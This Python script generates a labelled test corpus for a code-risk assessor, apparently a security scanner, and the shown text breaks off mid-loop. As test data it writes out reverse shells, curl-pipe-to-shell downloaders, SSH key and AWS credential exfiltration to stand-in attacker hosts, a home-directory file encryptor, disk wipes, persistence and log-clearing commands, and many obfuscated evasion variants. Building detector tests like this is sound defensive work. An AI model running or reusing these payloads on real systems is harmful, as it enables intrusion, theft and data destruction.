#!/usr/bin/env python3
"""Generates the assessor's labeled corpus: tests/corpus/{low,medium,high,blocked}/.

Every file is data for the assessor and must NEVER be executed. Files named
evasion_* are evasion variants of HIGH/BLOCKED code; files named lookalike_*
are benign look-alikes of risky code (comments, docstrings, names, safe uses).
Deterministic: `python3 tests/corpus/generate.py` rewrites the same files.
"""
import base64
import codecs
import os
import random
import shutil
import zlib

ROOT = os.path.dirname(os.path.abspath(__file__))
rng = random.Random(20261121)

HOSTS = ["10.0.0.5", "192.168.1.77", "attacker.example.net", "203.0.113.9", "evil.example.com",
         "172.16.4.2", "c2.example.org", "198.51.100.23"]
PORTS = [4444, 1337, 9001, 8080, 443, 53, 31337, 6666]
URLS = ["http://evil.example.com/payload.sh", "https://203.0.113.9/x", "http://c2.example.org/i.py",
        "https://cdn.example.net/update.bin", "http://198.51.100.23:8000/stage2"]
NAMES = ["s", "sock", "conn", "c", "client", "so", "net", "k"]

FILLERS_PY = [
    '''def fib(n):
    """Return the n-th Fibonacci number."""
    a, b = 0, 1
    for _ in range(n):
        a, b = b, a + b
    return a
''',
    '''class Counter:
    def __init__(self):
        self.counts = {}

    def add(self, word):
        self.counts[word] = self.counts.get(word, 0) + 1
''',
    '''def slugify(text):
    return "-".join(part.lower() for part in text.split() if part)
''',
    '''import json

def load_settings(path="settings.json"):
    with open(path) as f:
        return json.load(f)
''',
    '''from dataclasses import dataclass

@dataclass
class Point:
    x: float
    y: float

    def norm(self):
        return (self.x ** 2 + self.y ** 2) ** 0.5
''',
    '''def chunks(items, size):
    for i in range(0, len(items), size):
        yield items[i:i + size]
''',
    '''import logging
log = logging.getLogger(__name__)

def report(values):
    log.info("mean=%s", sum(values) / max(len(values), 1))
''',
]

FILLERS_SH = [
    'log() { echo "[$(date +%H:%M:%S)] $*"; }\n',
    'WORKDIR="${WORKDIR:-$PWD}"\ncd "$WORKDIR" || exit 1\n',
    'for f in *.txt; do\n  [ -e "$f" ] || continue\n  wc -l "$f"\ndone\n',
    'count=$(ls | wc -l)\necho "files: $count"\n',
    'if [ -z "$HOME" ]; then\n  echo "no home" >&2\nfi\n',
    'set -eu\n',
]

files = []  # (level, name, text)


def add(level, name, text):
    files.append((level, name, text))


def filler_py(n=None):
    n = rng.randint(0, 2) if n is None else n
    return "\n".join(rng.sample(FILLERS_PY, n))


def filler_sh(n=None):
    n = rng.randint(0, 2) if n is None else n
    return "".join(rng.sample(FILLERS_SH, n))


def py(level, name, body, pre=None, post=None):
    head = "#!/usr/bin/env python3\n" if rng.random() < 0.5 else ""
    text = head + (filler_py() if pre is None else pre) + "\n" + body + "\n" + (filler_py(rng.randint(0, 1)) if post is None else post)
    add(level, name + ".py", text)


def sh(level, name, body):
    head = "#!/bin/sh\n" if rng.random() < 0.5 else "#!/usr/bin/env bash\n"
    add(level, name + ".sh", head + filler_sh() + body + "\n" + filler_sh(rng.randint(0, 1)))


def b64(s):
    return base64.b64encode(s.encode()).decode()


# =========================== LOW ===========================
low_py = [
    'print(sum(range(10)))',
    'import math\nprint(math.sqrt(2))',
    'words = open("notes.txt").read().split()\nprint(len(words))',
    '# Do not call os.system("rm -rf /") here; it is only mentioned in a comment.\nprint("ok")',
    'def run():\n    """Historically this used os.system(cmd) and subprocess.call; now it is pure."""\n    return 42\nprint(run())',
    'socket_dup2 = "a variable name, not a call"\nprint(socket_dup2.upper())',
    'msg = "Never run: bash -i >& /dev/tcp/1.2.3.4/4444 0>&1"\nprint(len(msg))',
    'import base64\nprint(base64.b64encode(b"hello world").decode())',
    'import base64\ntext = base64.b64decode("aGVsbG8gd29ybGQ=").decode()\nprint(text)',
    'import ast\nprint(ast.literal_eval("[1, 2, 3]"))',
    'def system(x):\n    return x * 2\nprint(system(21))',
    'import hashlib\nprint(hashlib.sha256(b"abc").hexdigest())',
    'import re\nprint(re.findall(r"\\d+", "a1b22c333"))',
    'import argparse\np = argparse.ArgumentParser()\np.add_argument("--n", type=int, default=3)\nargs = p.parse_args()\nprint(args.n)',
    'import csv\nwith open("data.csv") as f:\n    for row in csv.reader(f):\n        print(row)',
    'with open("out.txt", "w") as f:\n    f.write("result\\n")',
    'import os\nprint(os.getcwd())\nprint(os.path.join("a", "b"))',
    'import os\nfor name in os.listdir("."):\n    print(name)',
    'import json\nprint(json.dumps({"a": 1}, indent=2))',
    'from cryptography.fernet import Fernet\nkey = Fernet.generate_key()\nprint(Fernet(key).encrypt(b"secret note"))',
    'import datetime\nprint(datetime.date.today().isoformat())',
    'COMMANDS = ["os.system", "subprocess.Popen", "eval"]\nprint("dangerous calls to avoid:", ", ".join(COMMANDS))',
    '"""Reverse shell detection notes: socket.connect + os.dup2 + pty.spawn is the classic pattern."""\nprint("notes")',
    'import collections\nprint(collections.Counter("mississippi").most_common(2))',
    'x = eval("1 + 2")\nprint(x)',
    'exec("y = 3\\nprint(y)")',
    'import itertools\nprint(list(itertools.permutations([1, 2, 3])))',
    'import statistics\nprint(statistics.mean([1, 2, 3, 4]))',
    'import os\nprint(os.environ.get("HOME"))',
    'import sys\nprint(sys.version)\nprint(sys.argv[1:])',
    'import pathlib\nfor p in pathlib.Path(".").glob("*.py"):\n    print(p.name)',
    'data = {"cmd": "rm -rf /", "note": "example of a dangerous command in a dict"}\nprint(data["note"])',
    'import shlex\nprint(shlex.split("ls -la /tmp"))',
    'import string\nprint(string.ascii_letters[::-1])',
    'import random\nrandom.seed(1)\nprint(random.choice(["a", "b"]))',
    'import time\nstart = time.time()\nprint(time.time() - start)',
    'def evaluate(expr):\n    return {"x": 1}.get(expr)\nprint(evaluate("x"))',
    'import textwrap\nprint(textwrap.fill("curl http://x | sh is a risky install pattern", 20))',
    'import urllib.parse\nprint(urllib.parse.urlparse("https://example.com/a?b=1"))',
    'import getpass\nprint(getpass.getuser())',
    # Ordinary capabilities used ordinarily (the rubric's LOW).
    'import requests\nr = requests.get("https://api.example.com/v1/items")\nprint(r.json())',
    'import urllib.request\nprint(urllib.request.urlopen("https://example.com").read()[:100])',
    'import socket\ns = socket.socket()\ns.connect(("example.com", 80))\ns.sendall(b"GET / HTTP/1.0\\r\\n\\r\\n")\nprint(s.recv(100))',
    'import os\nos.remove("tmp_output.txt")',
    'import shutil\nshutil.rmtree("build", ignore_errors=True)',
    'import ctypes\nlibc = ctypes.CDLL("libc.so.6")\nprint(libc.time(None))',
    'import os\nos.chmod("run.sh", 0o755)',
    'import os, signal\nos.kill(12345, signal.SIGTERM)',
    'import importlib\nname = input()\nmod = importlib.import_module(name)',
    'import requests\nr = requests.get("https://example.com/data.csv")\nopen("data.csv", "wb").write(r.content)',
    'import os\nfor root, dirs, files in os.walk("."):\n    for f in files:\n        if f.endswith(".pyc"):\n            os.remove(os.path.join(root, f))',
    'import smtplib\ns = smtplib.SMTP("localhost")\ns.sendmail("a@example.com", ["b@example.com"], "hi")',
    'import socket\nsrv = socket.socket()\nsrv.bind(("127.0.0.1", 8000))\nsrv.listen(1)\nc, a = srv.accept()\nc.sendall(b"hi")',
    'import multiprocessing\np = multiprocessing.Process(target=print, args=("x",))\np.start()\np.join()',
]
for i, body in enumerate(low_py):
    kind = "lookalike_" if any(k in body for k in ("os.system", "dup2", "dev/tcp", "rm -rf", "b64", "eval", "exec", "system(", "curl")) else ""
    for v in range(2):
        py("low", f"{kind}py_low_{i:02d}_{v}", body)

low_sh = [
    'echo "hello"\nls -la',
    '# rm -rf / would be terrible; we never do it\necho done',
    'echo "nc -e /bin/sh is a reverse shell; do not use"',
    'grep -rn TODO . | sort | head -20',
    'cat <<EOF\nrm -rf /\ncurl http://x | sh\nEOF',
    'systemctl status nginx || true',
    'crontab -l',
    'x=$(date +%s)\necho "$x"',
    'tar czf backup.tgz ./data',
    'mkdir -p out && cp *.txt out/',
    'sed "s/foo/bar/g" input.txt > output.txt',
    'awk -F, \'{ s += $2 } END { print s }\' data.csv',
    'find . -name "*.log" -mtime +7 -print',
    'for i in 1 2 3; do echo "$i"; done',
    'name="socket_dup2"\necho "$name"',
    'python3 -c "print(1 + 1)"',
    'printf "%s\\n" "a" "b" | sort -r',
    'du -sh . 2>/dev/null',
    'test -f config.yaml && echo present',
    'echo "base64 -d | sh is how droppers work" > notes.txt',
    'ps aux | grep python | grep -v grep',
    'diff a.txt b.txt || echo differ',
    'uname -a\nwhoami\nid',
    'cat /etc/os-release',
    'head -n 5 README.md',
    # Ordinary capabilities used ordinarily (the rubric's LOW).
    'curl -s https://api.example.com/v1/status',
    'wget https://example.com/data.tar.gz',
    'rm -rf ./build ./dist',
    'kill -9 "$(cat app.pid)"',
    'git clone https://github.com/example/repo.git',
    'chmod +x ./run.sh && ./run.sh',
    'bash -c "echo hi"',
    'wget -qO- https://example.com/data.json | jq .',
    'nohup ./server > server.log 2>&1 &',
    'ssh user@example.com uptime',
    'scp report.pdf user@example.com:/tmp/',
    'find . -name "*.tmp" -delete',
    'curl -o data.json https://example.com/data.json',
    'pkill -f old_worker',
    'rsync -av ./site/ user@example.com:/var/www/',
    'nc -z example.com 443 && echo open',
]
for i, body in enumerate(low_sh):
    kind = "lookalike_" if any(k in body for k in ("rm -rf", "nc -e", "curl", "dup2", "base64", "crontab", "systemctl")) else ""
    for v in range(2):
        sh("low", f"{kind}sh_low_{i:02d}_{v}", body)

# =========================== MEDIUM ===========================
medium_py = [
    'import os\nos.system("ls -l")',
    'import os as o\no.system("df -h")',
    'import subprocess\nsubprocess.run(["git", "status"], check=True)',
    'import subprocess\nout = subprocess.check_output(["ls", "-l"])\nprint(out.decode())',
    'from subprocess import Popen, PIPE\np = Popen(["echo", "hi"], stdout=PIPE)\nprint(p.communicate()[0])',
    'x = input("expr: ")\nprint(eval(x))',
    'import pickle\nwith open("model.pkl", "rb") as f:\n    model = pickle.load(f)',
    'import subprocess\nsubprocess.call("echo hello", shell=True)',
    'import base64, pickle\nobj = pickle.loads(base64.b64decode(open("blob.txt").read()))',
    'import ftplib\nftp = ftplib.FTP("ftp.example.com")\nftp.login()',
    'import yaml\nprint(yaml.load(open("c.yaml"), Loader=yaml.Loader))',
    'import marshal\ncode = marshal.loads(open("x.bin", "rb").read())',
    'import os\nprint(os.popen("uptime").read())',
    'import subprocess\nsubprocess.run(["pip", "install", "requests"])',
    'import os\nos.system("rm -rf ./cache")',
    'import subprocess\nsubprocess.run(["bash", "-c", "echo $HOME"])',
    'import requests\nr = requests.get("https://internal.example/api", verify=False)\nprint(r.status_code)',
    'import hashlib\ndef store(user, password):\n    return {"user": user, "hash": hashlib.md5(password.encode()).hexdigest()}',
    'import sqlite3\ndef get(db, uid):\n    return db.execute("SELECT * FROM t WHERE id = %s" % uid).fetchall()\nget(sqlite3.connect("x.db"), 1)',
    'import tarfile\ntarfile.open("a.tgz").extractall()',
    'import tempfile\nname = tempfile.mktemp(suffix=".txt")\nopen(name, "w").write("x")',
]
for i, body in enumerate(medium_py):
    kind = "lookalike_" if any(k in body for k in ("socket", "b64decode", "os.walk", "requests.get(\"https://example.com/data")) else ""
    for v in range(3):
        py("medium", f"{kind}py_medium_{i:02d}_{v}", body)

medium_sh = [
    'pip install --user requests',
    'npm install',
    'eval "$(ssh-agent -s)"',
    'curl -k https://self-signed.example/api',
    'python3 -m http.server 8080',
    'echo 1 > /tmp/app.lock',
]
for i, body in enumerate(medium_sh):
    kind = "lookalike_" if any(k in body for k in ("nc -z", "curl -o", "chmod +x", "eval", "wget -qO-")) else ""
    for v in range(3):
        sh("medium", f"{kind}sh_medium_{i:02d}_{v}", body)

# =========================== HIGH ===========================
high_py = [
    'import os\nos.setuid(0)',
    'with open("/etc/hosts", "a") as f:\n    f.write("10.0.0.1 internal\\n")',
    'import subprocess\nsubprocess.run(["sudo", "apt-get", "install", "-y", "nginx"])',
    'print(open("/etc/shadow").read())',
    'import os\nos.chown("/etc/app.conf", 0, 0)',
    'import shutil\nshutil.copy("tool", "/usr/local/bin/tool")',
    'import os, stat\nos.chmod("helper", 0o4755)',
    'import os\nos.system("sudo systemctl restart nginx")',
    'import os\nos.system("useradd -m deploy")',
    'import subprocess\nsubprocess.check_call("sudo mount /dev/sdb1 /mnt", shell=True)',
    'open("/etc/ssh/sshd_config", "w").write("PermitRootLogin yes\\n")',
    'import os\nos.seteuid(0)\nos.setegid(0)',
    'import subprocess\nsubprocess.run(["chmod", "u+s", "/usr/bin/find"])',
    'import os\nos.system("echo \'nameserver 8.8.8.8\' > /etc/resolv.conf")',
    'import subprocess\nsubprocess.run(["su", "-c", "whoami"])',
    'import os\nos.remove("/etc/motd")',
    'import subprocess\nsubprocess.run(["insmod", "rootkit_test.ko"])',
    'import subprocess\nsubprocess.run(["docker", "run", "--privileged", "-v", "/:/host", "alpine"])',
]
for i, body in enumerate(high_py):
    for v in range(4):
        py("high", f"py_high_{i:02d}_{v}", body)

high_py_evasion = [
    'import os\ngetattr(os, "set" + "uid")(0)',
    '__import__("os").setuid(0)',
    'import subprocess as sp\ncmd = "su" + "do"\nsp.run([cmd, "apt-get", "install", "-y", "vim"])',
    'p = "/etc/" + "shadow"\nprint(open(p).read())',
    'import importlib\nimportlib.import_module("o" + "s").setuid(0)',
    'f = open\nf("/etc/" + "hosts", "a").write("1.2.3.4 x\\n")',
    'import os\nos.system("s" "u" "do id")',
    'import os\nos.system("{} ls".format("sudo"))',
    'import os\nos.system("%s useradd eve" % "sudo")',
    'path = "wodahs/cte/"[::-1]\nprint(open(path).read())',
]
for i, body in enumerate(high_py_evasion):
    for v in range(3):
        py("high", f"evasion_py_high_{i:02d}_{v}", body)

high_sh = [
    'sudo apt-get install -y nginx',
    'chmod u+s /usr/bin/find',
    'chmod 4755 ./helper',
    'echo "10.0.0.1 db" >> /etc/hosts',
    'cat /etc/shadow',
    'useradd -m deploy',
    'systemctl restart nginx',
    'su -c whoami',
    'chown root:root /usr/local/bin/helper',
    'mount /dev/sdb1 /mnt',
    'cp ./tool /usr/local/bin/tool',
    "sed -i 's/^PermitRootLogin.*/PermitRootLogin yes/' /etc/ssh/sshd_config",
    'docker run --privileged -v /:/host alpine chroot /host',
    'insmod ./driver.ko',
    'passwd root',
    'apt-get remove -y apparmor-utils',
    'tee /etc/apt/sources.list.d/x.list <<EOF\ndeb http://deb.example.com stable main\nEOF',
    'setcap cap_net_raw+ep ./ping2',
    'docker run --rm alpine echo hi',
]
for i, body in enumerate(high_sh):
    for v in range(3):
        sh("high", f"sh_high_{i:02d}_{v}", body)

high_sh_evasion = [
    'S=sudo\n$S apt-get install -y vim',
    '\\s\\u\\d\\o id',
    '"su"do ls /root',
    "$'\\x73\\x75\\x64\\x6f' id",
    'chmod${IFS}u+s${IFS}/usr/bin/find',
    'c=cat; f=/etc/shadow; $c $f',
    'echo "1.2.3.4 x" | tee -a /etc/hosts',
    '`echo sudo` id',
    'bash -c "sudo id"',
    'eval "useradd -m eve"',
]
for i, body in enumerate(high_sh_evasion):
    for v in range(3):
        sh("high", f"evasion_sh_high_{i:02d}_{v}", body)

# =========================== BLOCKED ===========================
def revshell_py(h, p, n):
    forms = [
        f'import socket, subprocess, os\n{n} = socket.socket(socket.AF_INET, socket.SOCK_STREAM)\n{n}.connect(("{h}", {p}))\nos.dup2({n}.fileno(), 0)\nos.dup2({n}.fileno(), 1)\nos.dup2({n}.fileno(), 2)\nsubprocess.call(["/bin/sh", "-i"])',
        f'import socket, os, pty\n{n} = socket.socket()\n{n}.connect(("{h}", {p}))\nfor fd in (0, 1, 2):\n    os.dup2({n}.fileno(), fd)\npty.spawn("/bin/bash")',
        f'import socket as S\nimport subprocess as P\n{n} = S.create_connection(("{h}", {p}))\nP.Popen(["/bin/sh", "-i"], stdin={n}.fileno(), stdout={n}.fileno(), stderr={n}.fileno())',
        f'import socket, os\n{n} = socket.socket()\n{n}.connect(("{h}", {p}))\nos.dup2({n}.fileno(), 0); os.dup2({n}.fileno(), 1); os.dup2({n}.fileno(), 2)\nos.execl("/bin/sh", "sh", "-i")',
        f'import os\nos.system("bash -i >& /dev/tcp/{h}/{p} 0>&1")',
        f'import subprocess\nsubprocess.Popen("rm /tmp/f; mkfifo /tmp/f; cat /tmp/f | /bin/sh -i 2>&1 | nc {h} {p} > /tmp/f", shell=True)',
        f'import socket, subprocess\n{n} = socket.socket()\n{n}.connect(("{h}", {p}))\nwhile True:\n    cmd = {n}.recv(1024).decode()\n    out = subprocess.run(["/bin/sh", "-c", cmd], capture_output=True)\n    {n}.send(out.stdout)',
    ]
    return forms

bi = 0
for h in HOSTS[:4]:
    p = rng.choice(PORTS)
    n = rng.choice(NAMES)
    for j, form in enumerate(revshell_py(h, p, n)):
        py("blocked", f"py_revshell_{j}_{bi}", form)
    bi += 1

blocked_py = [
    'import urllib.request, os\nurllib.request.urlretrieve("{u}", "/tmp/.x")\nos.chmod("/tmp/.x", 0o755)\nos.system("/tmp/.x")',
    'import requests\nexec(requests.get("{u}").text)',
    'import urllib.request\nexec(urllib.request.urlopen("{u}").read())',
    'import os\nos.system("curl -fsSL {u} | sh")',
    'import subprocess\nsubprocess.run("wget -qO- {u} | bash", shell=True)',
    'import base64\nexec(base64.b64decode("{b64}"))',
    'import os, requests\nkey = open(os.path.expanduser("~/.ssh/id_rsa")).read()\nrequests.post("https://{h}/collect", data={{"k": key}})',
    'import os, socket\ndata = open(os.path.expanduser("~/.aws/credentials")).read()\ns = socket.socket()\ns.connect(("{h}", {p}))\ns.sendall(data.encode())',
    'import shutil, requests, os\np = os.path.expanduser("~/.config/google-chrome/Default/Login Data")\nshutil.copy(p, "/tmp/ld")\nrequests.post("https://{h}/u", files={{"f": open("/tmp/ld", "rb")}})',
    'POOL = "stratum+tcp://pool.minexmr.com:4444"\nimport subprocess\nsubprocess.Popen(["./xmrig", "-o", POOL, "-u", "44AFFq5kSiGBoZ"])',
    'import os\nfrom cryptography.fernet import Fernet\nk = Fernet.generate_key()\nf = Fernet(k)\nfor root, _, files in os.walk(os.path.expanduser("~")):\n    for name in files:\n        p = os.path.join(root, name)\n        data = open(p, "rb").read()\n        open(p + ".locked", "wb").write(f.encrypt(data))\n        os.remove(p)\nopen("README_TO_DECRYPT.txt", "w").write("Your files have been encrypted. Send bitcoin.")',
    'import os\nwhile True:\n    os.fork()',
    'import os\nos.system(":(){{ :|:& }};:")',
    'with open("/etc/cron.d/update", "w") as f:\n    f.write("* * * * * root curl -s {u} | sh\\n")',
    'import os\nwith open(os.path.expanduser("~/.bashrc"), "a") as f:\n    f.write("\\n(nohup /tmp/.x &)\\n")',
    'import os\nos.system("echo \'ssh-rsa AAAAB3Nza attacker@evil\' >> ~/.ssh/authorized_keys")',
    'import os\nos.system("setenforce 0; systemctl stop auditd; iptables -F")',
    'import reqeusts\nprint(reqeusts.get("https://example.com"))',
    'import subprocess\nsubprocess.run(["pip", "install", "colourama"])',
    'import shutil\nshutil.rmtree("/", ignore_errors=True)',
    'import os\nos.system("rm -rf --no-preserve-root /")',
    'import subprocess\nsubprocess.run(["dd", "if=/dev/zero", "of=/dev/sda", "bs=1M"])',
    'import os\nos.system("(crontab -l; echo \'@reboot /tmp/.x\') | crontab -")',
    'import os\nos.system("history -c; rm -f ~/.bash_history; unset HISTFILE")',
    'import zlib, base64\nexec(zlib.decompress(base64.b64decode("{zb64}")))',
]
for i, tmpl in enumerate(blocked_py):
    for v in range(3):
        h, p, u = rng.choice(HOSTS), rng.choice(PORTS), rng.choice(URLS)
        payload = f'import os\nos.system("curl {u} | sh")'
        body = tmpl.format(u=u, h=h, p=p, b64=b64(payload),
                           zb64=base64.b64encode(zlib.compress(payload.encode())).decode())
        py("blocked", f"py_blocked_{i:02d}_{v}", body)

# ---- BLOCKED evasions (Python) ----
def evasions_py(h, p, u):
    rs = f'import socket,os,pty;s=socket.socket();s.connect(("{h}",{p}));[os.dup2(s.fileno(),f) for f in (0,1,2)];pty.spawn("/bin/sh")'
    cmd = f"bash -i >& /dev/tcp/{h}/{p} 0>&1"
    dl = f"curl -s {u} | sh"
    return [
        f'import os as o, socket as q, pty as t\nz = q.socket()\nz.connect(("{h}", {p}))\nfor i in range(3):\n    o.dup2(z.fileno(), i)\nt.spawn("/bin/sh")',
        f'from socket import *\nfrom os import dup2\nfrom pty import spawn\nk = socket(AF_INET, SOCK_STREAM)\nk.connect(("{h}", {p}))\ndup2(k.fileno(), 0)\ndup2(k.fileno(), 1)\ndup2(k.fileno(), 2)\nspawn("/bin/sh")',
        f'm = __import__("o" + "s")\ngetattr(m, "sys" + "tem")("{cmd}")',
        f'import importlib\nos_ = importlib.import_module("".join(["o", "s"]))\nos_.system("{cmd}")',
        f'import os\nc = "{cmd[::-1]}"\nos.system(c[::-1])',
        f'import os\nparts = {[cmd[i:i+5] for i in range(0, len(cmd), 5)]!r}\nos.system("".join(parts))',
        f'import os\nos.system("".join(chr(x) for x in {[ord(ch) for ch in cmd]!r}))',
        f'exec("".join(map(chr, {[ord(ch) for ch in rs]!r})))',
        f'import base64\nexec(base64.b64decode("{b64(rs)}").decode())',
        f'import base64 as b, zlib as z\nexec(z.decompress(b.b64decode("{base64.b64encode(zlib.compress(rs.encode())).decode()}")))',
        f'import codecs\nexec(codecs.decode({codecs.encode(rs, "rot13")!r}, "rot13"))',
        f'exec(bytes.fromhex("{rs.encode().hex()}").decode())',
        f'import base64\npayload = "{b64(b64(rs))}"\nexec(base64.b64decode(base64.b64decode(payload)))',
        f'__builtins__.__dict__["ex" + "ec"](__import__("base64").b64decode("{b64(rs)}"))',
        f'globals()["__builtins__"].eval(compile(__import__("base64").b64decode("{b64(rs)}"), "x", "exec"))',
        f'import os\nhost = "{h}"\nport = {p}\nos.system(f"bash -i >& /dev/tcp/{{host}}/{{port}} 0>&1")',
        f'import os\nos.system("bash -i >& /dev/tcp/%s/%d 0>&1" % ("{h}", {p}))',
        f'import os\nos.system("bash -i >& /dev/tcp/{{}}/{{}} 0>&1".format("{h}", {p}))',
        f'import subprocess\nsubprocess.call(["b" + "ash", "-c", "{dl}"])',
        f'import os\nrun = getattr(os, "popen")\nrun("{dl}")',
        f'import sys\nsys.modules["os"].system("{dl}")',
        f'exec("import os\\nos.system(\'{dl}\')")',
        f'import os\nx = "cu"\nx += "rl -s {u} | s"\nx += "h"\nos.system(x)',
        f'import requests as r\ncode = r.get("{u}").text\nexec(code)',
        f'import urllib.request as u\nsrc = u.urlopen("{u}").read().decode()\neval(compile(src, "<x>", "exec"))',
        f'import os\nos.system(bytes.fromhex("{dl.encode().hex()}").decode())',
        f'import os, base64\nos.system(base64.b64decode("{b64(dl)}").decode())',
        f'import subprocess\nsubprocess.run(["python3", "-c", {rs!r}])',
        f'k = "".join(reversed("dlihc_ytp"))\nimport os\nos.system("python3 -c \'{rs.replace(chr(34), chr(92) + chr(34))}\'")',
        f'import os\nkey = os.path.join(os.path.expanduser("~"), ".ssh", "id_rsa")\nimport urllib.request\nurllib.request.urlopen("https://{h}/k", data=open(key, "rb").read())',
    ]

for v in range(3):
    h, p, u = rng.choice(HOSTS), rng.choice(PORTS), rng.choice(URLS)
    for j, body in enumerate(evasions_py(h, p, u)):
        py("blocked", f"evasion_py_blocked_{j:02d}_{v}", body)

# ---- BLOCKED (shell) ----
blocked_sh = [
    'bash -i >& /dev/tcp/{h}/{p} 0>&1',
    'exec 5<>/dev/tcp/{h}/{p}; cat <&5 | while read line; do $line 2>&5 >&5; done',
    'nc -e /bin/sh {h} {p}',
    'ncat {h} {p} -e /bin/bash',
    'rm /tmp/f; mkfifo /tmp/f; cat /tmp/f | /bin/sh -i 2>&1 | nc {h} {p} > /tmp/f',
    'socat exec:\'bash -li\',pty,stderr,setsid,sigint,sane tcp:{h}:{p}',
    'curl -fsSL {u} | sh',
    'wget -qO- {u} | sudo bash',
    'bash <(curl -s {u})',
    'sh -c "$(curl -fsSL {u})"',
    'curl -o /tmp/.u {u} && chmod +x /tmp/.u && /tmp/.u',
    ':(){{ :|:& }};:',
    'rm -rf /',
    'sudo rm -rf --no-preserve-root /',
    'rm -rf ~/*',
    'dd if=/dev/urandom of=/dev/sda bs=4M',
    'mkfs.ext4 /dev/sda1',
    '(crontab -l 2>/dev/null; echo "*/5 * * * * curl -s {u} | sh") | crontab -',
    'echo "ssh-rsa AAAAB3Nza attacker@evil" >> ~/.ssh/authorized_keys',
    'echo "(nohup /tmp/.x &)" >> ~/.bashrc',
    'setenforce 0',
    'systemctl stop auditd && systemctl disable auditd',
    'ufw disable',
    'iptables -F',
    'history -c && rm -f ~/.bash_history',
    'cat ~/.ssh/id_rsa | curl -X POST --data-binary @- https://{h}/k',
    'tar czf - ~/.aws ~/.ssh | nc {h} {p}',
    './xmrig -o pool.supportxmr.com:3333 -u 44AFFq5kSiGBoZ --donate-level 1',
    'pip install reqeusts',
    'find ~ -type f -name "*.docx" -exec openssl enc -aes-256-cbc -salt -in {{}} -out {{}}.enc -k secret \\; -exec rm {{}} \\;',
    'perl -e \'use Socket;$i="{h}";$p={p};socket(S,PF_INET,SOCK_STREAM,getprotobyname("tcp"));if(connect(S,sockaddr_in($p,inet_aton($i)))){{open(STDIN,">&S");open(STDOUT,">&S");exec("/bin/sh -i");}};\'',
    'php -r \'$sock=fsockopen("{h}",{p});exec("/bin/sh -i <&3 >&3 2>&3");\'',
    'python3 -c \'import socket,os,pty;s=socket.socket();s.connect(("{h}",{p}));[os.dup2(s.fileno(),f) for f in (0,1,2)];pty.spawn("/bin/sh")\'',
    'echo "* * * * * root /tmp/.x" > /etc/cron.d/sysupdate',
]
for i, tmpl in enumerate(blocked_sh):
    for v in range(3):
        h, p, u = rng.choice(HOSTS), rng.choice(PORTS), rng.choice(URLS)
        sh("blocked", f"sh_blocked_{i:02d}_{v}", tmpl.format(h=h, p=p, u=u))

def evasions_sh(h, p, u):
    rs = f"bash -i >& /dev/tcp/{h}/{p} 0>&1"
    dl = f"curl -s {u} | sh"
    return [
        f'echo {b64(rs)} | base64 -d | bash',
        f'eval "$(echo {b64(dl)} | base64 --decode)"',
        f'c\'u\'rl -s {u} | s"h"',
        f'X=/dev/tcp/{h}/{p}\nbash -i >& $X 0>&1',
        f'T=tcp; bash -i >& /dev/$T/{h}/{p} 0>&1',
        f'curl${{IFS}}-s${{IFS}}{u}|sh',
        f'$(echo curl) -s {u} | $(echo sh)',
        f'N=nc\n$N -e /bin/sh {h} {p}',
        f'`which nc` {h} {p} -e /bin/bash',
        f'sh -c "bash -i >& /dev/tcp/{h}/{p} 0>&1"',
        f'python3 - <<EOF\nimport socket,os,pty\ns=socket.socket()\ns.connect(("{h}",{p}))\n[os.dup2(s.fileno(),f) for f in (0,1,2)]\npty.spawn("/bin/sh")\nEOF',
        f'bash <<EOF\n{rs}\nEOF',
        f'echo {rs.encode().hex()} | xxd -r -p | sh',
        f"$'\\x63\\x75\\x72\\x6c' -s {u} | sh",
        f'D=$(curl -s {u}); eval "$D"',
        f'printf %s {b64(dl)} | base64 -d | sh',
        f'/usr/bin/env bash -c "$(wget -qO- {u})"',
        f'nohup sh -c "{dl}" >/dev/null 2>&1 &',
        f'R=rm; $R -rf /',
        f'b(){{ b|b& }};b',
        f"echo '{dl}' | sh",
        f'${{PATH:0:1}}bin${{PATH:0:1}}bash -i >& ${{PATH:0:1}}dev${{PATH:0:1}}tcp${{PATH:0:1}}{h}${{PATH:0:1}}{p} 0>&1',
        f"echo '{codecs.encode(dl, 'rot13')}' | tr 'a-zA-Z' 'n-za-mN-ZA-M' | sh",
        f'a=cu; b=rl; $a$b -s {u} | s$(echo h)',
        f'run() {{ eval "$1"; }}\nrun "{dl}"',
        f'function connect {{\n  bash -c "$*"\n}}\nconnect "{rs}"',
    ]

for v in range(3):
    h, p, u = rng.choice(HOSTS), rng.choice(PORTS), rng.choice(URLS)
    for j, body in enumerate(evasions_sh(h, p, u)):
        sh("blocked", f"evasion_sh_blocked_{j:02d}_{v}", body)


# =========================== realistic programs and look-alikes ===========================
REALISTIC_LOW_PY = [
    # a data-processing script
    """import csv
import statistics
from collections import defaultdict


def load(path):
    rows = []
    with open(path, newline="") as f:
        for row in csv.DictReader(f):
            row["amount"] = float(row["amount"])
            rows.append(row)
    return rows


def summarize(rows):
    by_cat = defaultdict(list)
    for r in rows:
        by_cat[r["category"]].append(r["amount"])
    return {k: (len(v), statistics.mean(v), max(v)) for k, v in by_cat.items()}


def main():
    rows = load("transactions.csv")
    for cat, (n, mean, top) in sorted(summarize(rows).items()):
        print(f"{cat:<20} {n:>5} {mean:>10.2f} {top:>10.2f}")


if __name__ == "__main__":
    main()
""",
    # a tiny web app
    """from flask import Flask, jsonify, request

app = Flask(__name__)
TODOS = []


@app.route("/todos", methods=["GET"])
def list_todos():
    return jsonify(TODOS)


@app.route("/todos", methods=["POST"])
def add_todo():
    item = request.get_json(force=True)
    TODOS.append({"id": len(TODOS) + 1, "title": str(item.get("title", ""))})
    return jsonify(TODOS[-1]), 201


if __name__ == "__main__":
    app.run(port=5000)
""",
    # a signature list in a security helper: strings, never executed
    """SUSPICIOUS = [
    "nc -e /bin/sh",
    "bash -i >& /dev/tcp/",
    "curl http://x | sh",
    "os.dup2(s.fileno(), 0)",
    "rm -rf /",
]


def scan(text):
    return [sig for sig in SUSPICIOUS if sig in text]


print(scan(open("suspect.log").read()))
""",
    # encrypting one file the user names: no walking, no deleting
    """import sys
from cryptography.fernet import Fernet

key = Fernet.generate_key()
with open("secret.key", "wb") as k:
    k.write(key)
data = open(sys.argv[1], "rb").read()
with open(sys.argv[1] + ".enc", "wb") as out:
    out.write(Fernet(key).encrypt(data))
print("encrypted; keep secret.key safe")
""",
    # class with a method called system and a variable called socket_dup2
    """class Shell:
    def system(self, cmd):
        return "would run: " + cmd


socket_dup2 = Shell()
print(socket_dup2.system("ls"))
""",
]
for i, body in enumerate(REALISTIC_LOW_PY):
    for v in range(2):
